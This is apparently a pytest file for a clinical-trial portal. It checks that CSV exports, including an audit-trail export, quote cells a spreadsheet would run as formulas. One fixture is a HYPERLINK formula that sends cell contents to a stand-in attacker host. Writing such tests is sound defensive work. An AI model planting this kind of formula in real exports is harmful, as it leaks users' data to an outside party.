"""A CSV export never hands a spreadsheet a formula: a cell starting with = + - @ (or a tab or
carriage return) is prefixed with a single quote and so read as text (OWASP CSV injection)."""

import csv
import io

import pytest

from croportal.audit import audited_save
from croportal.csv_safe import csv_cell, csv_writer
from tests.factories import TrialFactory


@pytest.fixture
def trial(db):
    return TrialFactory(protocol_number="A-001", title="Trial A")


pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://attacker.invalid/?d="&A1,"Click for details")'


@pytest.mark.parametrize(("value", "written"), [
    (LINK, "'" + LINK),
    ("-2+3", "'-2+3"),
    ("+44 20 7946 0000", "'+44 20 7946 0000"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Dose reduced to 2 mg", "Dose reduced to 2 mg"),
    ("a=b", "a=b"),
    ("", ""),
    (-2, -2),  # a number is written as a number
    (None, None),
])
def test_a_cell_that_a_spreadsheet_would_run_is_quoted(value, written):
    assert csv_cell(value) == written


def test_the_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["=1+1", "ok"])
    writer.writerows([["-2+3", "@x"], ["plain", 3]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1+1", "ok"], ["'-2+3", "'@x"], ["plain", "3"]]


def test_the_audit_trail_csv_quotes_a_formula_in_a_reason_and_a_value(trial, admin, crm, client):
    trial.title = "-2+3"
    audited_save(trial, by=admin, reason=LINK)
    client.force_login(crm)
    response = client.get(f"/audit/trial/{trial.pk}/csv/")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    change = next(row for row in rows if row["field"] == "title" and row["old"])
    assert change["reason"] == "'" + LINK
    assert change["new"] == "'-2+3"
    assert change["old"] == "Trial A"
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
